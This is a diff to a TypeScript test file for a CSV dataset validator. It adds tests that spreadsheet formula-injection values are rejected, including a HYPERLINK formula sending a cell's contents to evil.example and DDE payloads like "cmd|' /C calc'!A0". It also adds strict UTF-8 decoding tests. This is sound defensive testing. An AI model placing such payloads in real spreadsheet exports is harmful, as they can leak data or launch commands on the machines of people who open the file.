@@ -2,6 +2,7 @@ import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { csvFormatRows, csvParseRows } from 'd3-dsv';
 import { tmpdir } from 'node:os';
 import { join, relative } from 'node:path';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import {
   DataValidationError,
@@ -12,6 +13,7 @@ import {
   validateDatasetTexts,
   type DataDefect,
 } from '../../src/lib/dataset.ts';
+import { firstInvalidUtf8Byte } from '../../src/lib/csv-text.ts';
 import type { DataFileKey } from '../../src/lib/schema.ts';
 
 const fixtures = join(import.meta.dirname, '..', 'fixtures');
@@ -168,7 +170,21 @@ describe('collecting every defect before failing', () => {
     const [header, first] = [claims[0]!.split(','), claims[1]!];
     const quoteAt = header.indexOf('quote');
     expect(quoteAt).toBeGreaterThan(-1);
-    for (const formula of ['=HYPERLINK(""https://evil.example/"",""x"")', '+cmd', '@SUM(1)', '-x']) {
+    for (const formula of [
+      '=HYPERLINK(""https://evil.example/"",""x"")',
+      '+cmd',
+      '@SUM(1)',
+      '-x',
+      // A digit after the minus does not make it a number.
+      '-1+HYPERLINK(""https://evil.example/?""&A2,""click"")',
+      "-2+3+cmd|' /C calc'!A0",
+      '-1,500.5+1',
+      // Full-width forms, which spreadsheets may fold to = + @ -.
+      '\uff1d1+1',
+      '\uff0bcmd',
+      '\uff20SUM(1)',
+      '\uff0d1+1',
+    ]) {
       const cells = csvParseRows(first)[0]!;
       cells[quoteAt] = formula.replaceAll('""', '"');
       const row = csvFormatRows([cells]);
@@ -178,8 +194,29 @@ describe('collecting every defect before failing', () => {
         /^data\/claims\.csv, row 2, column "quote": .*a spreadsheet opening the download would run it as a formula/,
       );
     }
-    expect(startsLikeFormula('-5')).toBe(false);
+    for (const number of ['-5', '-12', '-1,500.5', '-0.25', ' -12 ', '-1500'])
+      expect(startsLikeFormula(number), number).toBe(false);
     expect(startsLikeFormula('a = b')).toBe(false);
+    expect(startsLikeFormula('-1,50')).toBe(true);
+  });
+
+  it('lets a minus through only when the whole cell is a number: any formula after "-<digits>" is caught', () => {
+    const formulaTail = fc.constantFrom(
+      '+1',
+      '+HYPERLINK("https://evil.example/")',
+      "+cmd|' /C calc'!A0",
+      '*A1',
+      '&A2',
+    );
+    fc.assert(
+      fc.property(fc.integer({ min: 1 }), fc.boolean(), formulaTail, (value, grouped, tail) => {
+        const number = `-${grouped ? value.toLocaleString('en') : value}`;
+        expect(startsLikeFormula(number)).toBe(false);
+        expect(startsLikeFormula(`${number}.5`)).toBe(false);
+        expect(startsLikeFormula(`${number}${tail}`)).toBe(true);
+        expect(startsLikeFormula(`\uff0d${number.slice(1)}${tail}`)).toBe(true);
+      }),
+    );
   });
 
   it('rejects a stray column and a row with the wrong number of cells', () => {
@@ -301,6 +338,74 @@ describe('encoding: every file is decoded strictly as UTF-8', () => {
     expect(defectsWith({ claims: badBytes(file) }).map(formatDefect)).toEqual([
       `data/claims.csv: expected the file to be UTF-8 text, but byte ${where} is not UTF-8: the file was probably saved as Windows-1252 or Latin-1. ${RESAVE}`,
     ]);
+  });
+
+  it.each([
+    ['a CESU-8 surrogate (U+D800)', [0xed, 0xa0, 0x80], '0xED'],
+    ['an overlong two-byte "/"', [0xc0, 0xaf], '0xC0'],
+    ['an overlong three-byte "/"', [0xe0, 0x80, 0xaf], '0xE0'],
+    ['an overlong four-byte "/"', [0xf0, 0x80, 0x80, 0xaf], '0xF0'],
+    ['a code point above U+10FFFF (F4 90)', [0xf4, 0x90, 0x80, 0x80], '0xF4'],
+    ['a lead byte for above U+10FFFF (F5)', [0xf5, 0x80, 0x80, 0x80], '0xF5'],
+    ['a three-byte sequence cut short', [0xe2, 0x82], '0xE2'],
+    ['a stray continuation byte', [0x80], '0x80'],
+  ])('rejects %s inside line 2 of events.csv, naming that byte and line', (_name, inserted, byte) => {
+    const text = good('events.csv');
+    const at = text.indexOf(',', text.indexOf('\n')) + 1;
+    const bytes = Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from(inserted), Buffer.from(text.slice(at))]);
+    expect(defectsWith({ events: bytes }).map(formatDefect)).toEqual([
+      `data/events.csv: expected the file to be UTF-8 text, but byte ${byte} on line 2 is not UTF-8: the file was probably saved as Windows-1252 or Latin-1. ${RESAVE}`,
+    ]);
+  });
+
+  it('finds an ill-formed byte exactly when the strict decoder refuses the bytes, at the end of the file too', () => {
+    const strict = new TextDecoder('utf-8', { fatal: true });
+    const decodes = (bytes: Uint8Array) => {
+      try {
+        strict.decode(bytes);
+        return true;
+      } catch {
+        return false;
+      }
+    };
+    // Bytes near the edges of Table 3-7's ranges, so every boundary is crossed often.
+    const edgy = fc.constantFrom(
+      0x00,
+      0x41,
+      0x7f,
+      0x80,
+      0x8f,
+      0x90,
+      0x9f,
+      0xa0,
+      0xbf,
+      0xc0,
+      0xc1,
+      0xc2,
+      0xdf,
+      0xe0,
+      0xe1,
+      0xec,
+      0xed,
+      0xee,
+      0xef,
+      0xf0,
+      0xf1,
+      0xf3,
+      0xf4,
+      0xf5,
+      0xff,
+    );
+    fc.assert(
+      fc.property(fc.array(fc.oneof(edgy, fc.integer({ min: 0, max: 255 })), { maxLength: 12 }), (values) => {
+        const bytes = Uint8Array.from(values);
+        const offset = firstInvalidUtf8Byte(bytes);
+        expect(offset === -1).toBe(decodes(bytes));
+        // Everything before the reported byte is well formed.
+        if (offset >= 0) expect(decodes(bytes.subarray(0, offset))).toBe(true);
+      }),
+      { numRuns: 5000 },
+    );
   });
 
   it.each([
